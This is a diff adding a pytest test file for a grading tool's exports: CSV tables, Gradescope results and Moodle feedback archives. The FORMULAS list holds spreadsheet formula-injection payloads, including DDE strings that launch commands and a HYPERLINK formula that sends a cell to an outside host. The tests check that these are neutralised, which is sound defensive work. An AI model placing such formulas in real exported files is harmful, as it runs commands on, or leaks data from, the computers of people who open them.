@@ -1,0 +1,183 @@
+"""Marks arrive where they are taken, no cell of a table acts, and nobody is dropped in silence."""
+
+import json
+import stat
+import subprocess
+import sys
+import zipfile
+from pathlib import Path
+
+import pytest
+from outgoing import HOSTILE, NAMES, a_result, acts, cells, mark, write_result
+from softlookup_coursework.exports import FORMATS, Unfit, returned, write
+from softlookup_coursework.exports.table import neutral, read, save
+from softlookup_coursework.marks import Remark
+from softlookup_coursework.verdicts import Verdict
+
+SCHEMA = Path(__file__).parent / "gradescope_results.schema.json"
+# What a spreadsheet would run, or would take for a cell of its own.
+FORMULAS = [
+    "=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1", "\r=1+1", "\n=1+1", "  =1+1", "＝1+1", "＋1", "－1x",
+    "=cmd|' /C calc'!A0", '=HYPERLINK("http://afar.invalid?"&A1,"x")', "a;=1+1", "a;  @b", "a\n=1",
+    "a,=1+1", "-2+3+cmd|' /C calc'!D2", "=@A1", "+491234x",
+]  # fmt: skip
+# ---------- tables ----------
+
+
+@pytest.mark.parametrize("text", FORMULAS)
+def test_a_formula_becomes_text(text):
+    assert not acts(neutral(text))
+    assert neutral(text) != text
+    assert neutral(text).replace("'", "") == text.replace("'", "")
+
+
+@pytest.mark.parametrize("text", ["", "Ada", "a=b", "12", "-3", "+4.5", "0,5", "x-y", "a, -3"])
+def test_what_is_none_stays_as_it_is(text):
+    assert neutral(text) == text
+
+
+@pytest.mark.parametrize(
+    ("value", "text"), [(-3.0, "-3"), (2.5, "2.5"), (1 / 3, "0.33"), (0, "0"), (None, "")]
+)  # fmt: skip
+def test_numbers_stay_numbers(value, text):
+    assert neutral(value) == text
+
+
+def test_what_is_written_is_read_as_it_was(tmp_path):
+    rows = [["a", "b"], ['x"y', "1,2"], ["two\nlines", "🧑‍🔬"], ["عمر", ""]]
+    for separator in (",", ";", "\t"):
+        path = save(tmp_path / "t.csv", rows, separator, mark=True)
+        table = read(path)
+        assert [table.header, *table.rows] == rows
+        assert (table.separator, table.mark) == (separator, True)
+    assert stat.S_IMODE(path.stat().st_mode) == 0o600
+
+
+@pytest.mark.parametrize(
+    ("content", "says"),
+    [(b"", "empty"), (b"\xff\xfe\x00", "UTF-8"), (b"a,\xe9", "UTF-8"), (b"a,b\n1,2,3\n", "cells"),
+     (b'a,b\n"x', "no table"), (None, "cannot be read")],
+)  # fmt: skip
+def test_what_is_no_table_is_refused_with_what_to_do(tmp_path, content, says):
+    path = tmp_path / "t.csv"
+    if content is not None:
+        path.write_bytes(content)
+    with pytest.raises(Unfit, match=says):
+        read(path)
+
+
+def test_utf_16_is_read(tmp_path):
+    (tmp_path / "t.csv").write_text("a\tb\n1\tä\n", "utf-16")
+    assert read(tmp_path / "t.csv").rows == [["1", "ä"]]
+
+
+def test_a_write_that_fails_leaves_the_old_file(tmp_path):
+    path = save(tmp_path / "t.csv", [["old"]])
+
+    def rows():
+        yield ["new"]
+        raise RuntimeError("planted")
+
+    with pytest.raises(RuntimeError, match="planted"):
+        save(path, rows())
+    assert cells(path) == [["old"]]
+    assert [one.name for one in tmp_path.iterdir()] == ["t.csv"]
+
+
+# ---------- Gradescope ----------
+
+
+def test_gradescope_gets_what_its_documentation_describes(handed_in):
+    result = a_result(Verdict.TIMED_OUT, "\n".join(HOSTILE[:-1]), message="<b>wrong</b>")
+    write_result(handed_in, "positions", "101", result)
+    remarks = (Remark("essay", 4.5, "Well *put*."),)
+    marks = [mark("101", remarks=remarks), mark("102", 7, None)]
+    report = write("gradescope", handed_in, "positions", marks)
+    files = sorted(report.path.glob("*/results.json"))
+    assert [file.parent.name for file in files] == ["101", "102"]
+    check = [sys.executable, "-m", "check_jsonschema", "--schemafile", str(SCHEMA)]
+    checked = subprocess.run([*check, *files], capture_output=True, text=True)
+    assert checked.returncode == 0, checked.stdout
+    told = json.loads(files[0].read_text())
+    assert told["score"] == 11.5 == sum(test["score"] for test in told["tests"])
+    assert sum(test["max_score"] for test in told["tests"]) == 18
+    passed, failed, by_hand = told["tests"]
+    assert (passed["status"], passed["visibility"]) == ("passed", "visible")
+    assert (failed["status"], failed["visibility"]) == ("failed", "after_published")
+    assert (failed["output"], failed["output_format"]) == ("<b>wrong</b>", "text")
+    assert (by_hand["score"], by_hand["output"]) == (4.5, "Well *put*.")
+    assert {told[key] for key in told if key.endswith("_format")} == {"text"}
+    assert "\x1b" not in told["output"]
+    assert [one.student for one in report.left if "waits" in one.why] == ["102"]
+
+
+def test_a_field_that_gradescope_does_not_know_would_be_found(tmp_path):
+    path = tmp_path / "results.json"
+    path.write_text('{"score": 1, "tests": [{"visible": true}]}')
+    check = [sys.executable, "-m", "check_jsonschema", "--schemafile", str(SCHEMA), str(path)]
+    assert subprocess.run(check, capture_output=True).returncode == 1
+
+
+# ---------- a plain table, and what all share ----------
+
+
+def test_the_plain_table_has_a_column_for_each_cell_and_test(handed_in):
+    marks = [mark("101", remarks=(Remark("essay", 4.5),)), mark("102", 7, None),
+             *(mark("ada", first_name=a, last_name=b) for a, b in NAMES)]  # fmt: skip
+    report = write("plain", handed_in, "positions", marks)
+    assert report.path.read_bytes().startswith(b"\xef\xbb\xbf")
+    header, first, second, *others = cells(report.path)
+    assert header[-4:] == ["rows", "rows: visible.rows_sum_to_one", "rows: hidden.slopes", "essay"]
+    told, waits = (dict(zip(header, row, strict=True)) for row in (first, second))
+    assert (told["earned"], told["by hand"], told["essay"]) == ("11.5", "4.5", "4.5")
+    assert (told["rows"], told["rows: hidden.slopes"]) == ("7", "0")
+    assert (waits["by hand"], waits["essay"]) == ("", "")
+    assert not any(acts(cell) for row in others for cell in row if cell != "-")
+    assert report.written == 9
+
+
+@pytest.mark.parametrize("form", FORMATS)
+def test_whoever_handed_in_and_has_no_mark_is_named(handed_in, form):
+    report = write(form, handed_in, "positions", [mark("101")])
+    missing = {one.student for one in report.left if "no mark in the gradebook" in one.why}
+    assert missing == {"102", "ada", "late"}
+
+
+def test_a_mark_that_a_person_has_to_look_at_is_named(handed_in):
+    look = mark("101", verdict=Verdict.NEEDS_A_HUMAN, why="no cell answers b")
+    report = write("canvas", handed_in, "positions", [look])
+    assert "no cell answers b" in next(one.why for one in report.left if one.student == "101")
+
+
+def test_an_unknown_form_is_refused(handed_in):
+    with pytest.raises(Unfit, match="expected one of canvas"):
+        write("excel", handed_in, "positions", [])
+
+
+# ---------- the pages, for Moodle ----------
+
+
+def test_the_pages_are_packed_as_moodle_hands_them_on(handed_in):
+    for student in ("101", "102", "ada"):
+        page = handed_in / "feedback" / student / "positions" / "positions.html"
+        page.parent.mkdir(parents=True)
+        page.write_text(f"for {student}")
+    report = returned.pack(handed_in, "positions")
+    with zipfile.ZipFile(report.path) as archive:
+        assert archive.namelist() == [
+            f"Participant_{n}_assignsubmission_file_/positions.html" for n in (101, 102)
+        ]
+        assert archive.read(archive.namelist()[1]) == b"for 102"
+    assert report.written == 2
+    assert [one.student for one in report.left] == ["ada"]
+    # Moodle cuts a folder's name at its underscores: name, number, kind.
+    name, number, kind, plugin, rest = archive.namelist()[0].split("/")[0].split("_", 4)
+    assert (name, number, kind, plugin, rest) == (
+        "Participant",
+        "101",
+        "assignsubmission",
+        "file",
+        "",
+    )
+    first = report.path.read_bytes()
+    assert returned.pack(handed_in, "positions").path.read_bytes() == first
